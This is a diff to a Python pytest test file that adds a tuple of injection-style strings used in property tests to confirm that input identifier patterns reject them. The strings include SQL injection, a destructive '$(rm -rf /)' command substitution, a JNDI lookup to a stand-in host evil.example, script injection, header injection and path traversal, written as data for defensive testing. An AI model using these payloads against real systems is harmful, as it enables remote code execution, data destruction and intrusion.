@@ -26,3 +26,19 @@ def synthesized(tmp_path_factory: pytest.TempPathFactory) -> Path:
 @pytest.fixture(scope="session")
 def template(synthesized: Path) -> dict[str, Any]:
     return json.loads(synthesized.read_text())
+
+
+# Injection-like text for property tests: each holds a character no identifier pattern of the inputs allows.
+INJECTIONS = (
+    "'; DROP TABLE runs; --",
+    "$(rm -rf /)",
+    "{{7*7}}",
+    "${jndi:ldap://evil.example/a}",
+    "<script>alert(1)</script>",
+    "a\r\nX-Injected: yes",
+    "line\nbreak",
+    "nul\x00byte",
+    "`id`",
+    "a|b",
+    "..\\..\\windows",
+)
